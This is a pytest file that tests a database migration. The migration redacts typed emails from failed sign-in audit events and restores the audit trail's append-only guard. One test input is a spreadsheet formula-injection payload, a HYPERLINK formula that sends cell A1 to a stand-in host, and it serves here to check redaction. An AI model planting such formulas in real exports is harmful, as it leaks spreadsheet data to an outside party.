"""Migration 0007 on both databases: the typed emails of old refused sign-ins are redacted in one
audited statement, and the trail's append-only guard is back in place afterwards.

Each case builds its own database at revision 0006 (a SQLite file, or a PostgreSQL schema of its
own), fills it as the old code did, and upgrades it.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from alembic import command
from sqlalchemy.engine import Engine

from xchange.db.engine import alembic_config, make_engine

TYPED = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Sign in again")',
    "correct horse battery staple",  # a password typed into the Email field
    "nobody@x.eu",
]


@pytest.fixture
def at_0006(engine: Engine, tmp_path: Path) -> Iterator[Engine]:
    """A new database of `engine`'s kind, at revision 0006."""
    if engine.dialect.name == "sqlite":
        url = f"sqlite:///{tmp_path / 'old.db'}"
        schema = None
    else:
        # In this test process's own database: a parallel worker has its own.
        schema = "xchange_test_0007"
        with engine.begin() as connection:
            connection.exec_driver_sql(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')
            connection.exec_driver_sql(f'CREATE SCHEMA "{schema}"')
        url = engine.url.update_query_dict({"options": f"-csearch_path={schema}"}).render_as_string(
            hide_password=False
        )
    old = make_engine(url)
    _migrate(old, "0006")
    try:
        yield old
    finally:
        old.dispose()
        if schema is not None:
            with engine.begin() as connection:
                connection.exec_driver_sql(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')


def _migrate(engine: Engine, revision: str) -> None:
    config = alembic_config(engine.url.render_as_string(hide_password=False))
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.upgrade(config, revision)


def _event(connection: sa.Connection, label: str, action: str, entity_id: int | None) -> None:
    connection.execute(
        sa.text(
            "INSERT INTO audit_event (at, actor_id, actor_label, entity, entity_id, action,"
            " changes) VALUES (:at, NULL, :label, 'user', :entity_id, :action, '{}')"
        ),
        {
            "at": datetime(2026, 3, 2, tzinfo=UTC),
            "label": label,
            "entity_id": entity_id,
            "action": action,
        },
    )


def test_old_typed_emails_are_redacted_once_and_the_guard_stays(at_0006: Engine) -> None:
    with at_0006.begin() as connection:
        connection.execute(
            sa.text(
                "INSERT INTO app_user (email, role, active, failed_logins, created_at)"
                " VALUES ('coord@x.eu', 'coordinator', true, 2, :at)"
            ),
            {"at": datetime(2026, 1, 1, tzinfo=UTC)},
        )
        user_id = connection.execute(sa.text("SELECT id FROM app_user")).scalar_one()
        for label in TYPED:
            _event(connection, label, "sign_in_failed", None)
        _event(connection, TYPED[1], "sign_in_locked", None)
        _event(connection, "Coord@X.eu", "sign_in_failed", user_id)  # a user's: kept
        _event(connection, "anna@x.eu", "update", None)  # not a sign-in: kept
        connection.execute(
            sa.text(
                "INSERT INTO audit_event (at, actor_id, actor_label, entity, entity_id, action,"
                " changes) VALUES (:at, :id, 'coord@x.eu', 'exchange', 1, 'create', '{}')"
            ),
            {"at": datetime(2026, 3, 3, tzinfo=UTC), "id": user_id},
        )

    _migrate(at_0006, "head")

    with at_0006.connect() as connection:
        rows = connection.execute(
            sa.text("SELECT id, actor_label, action, changes FROM audit_event ORDER BY id")
        ).all()
    labels = [label for _, label, _, _ in rows]
    assert labels[:7] == [
        "unknown email",
        "unknown email",
        "unknown email",
        "unknown email",
        "Coord@X.eu",
        "anna@x.eu",
        "coord@x.eu",
    ]
    # One event records the redaction: which events, never what they held.
    [redaction] = [r for r in rows if r.action == "redact"]
    assert redaction.actor_label == "migration 0007"
    changes = redaction.changes
    changes = changes if isinstance(changes, dict) else json.loads(changes)
    assert changes["events"] == [rows[i].id for i in range(4)]
    text = str(rows)
    for typed in TYPED[:2]:
        assert typed not in text

    # The guard is back: the trail refuses changes again, on either database.
    for statement in (
        "UPDATE audit_event SET actor_label = 'x'",
        "DELETE FROM audit_event",
    ):
        with pytest.raises(sa.exc.DatabaseError, match="append-only"), at_0006.begin() as c:
            c.exec_driver_sql(statement)
    # The user has a version, and an epoch for sessions.
    with at_0006.connect() as connection:
        assert connection.execute(
            sa.text("SELECT version, session_epoch, locked_until FROM app_user")
        ).one() == (1, 0, None)


def test_nothing_to_redact_writes_nothing(at_0006: Engine) -> None:
    _migrate(at_0006, "head")
    with at_0006.connect() as connection:
        assert connection.execute(sa.text("SELECT count(*) FROM audit_event")).scalar() == 0
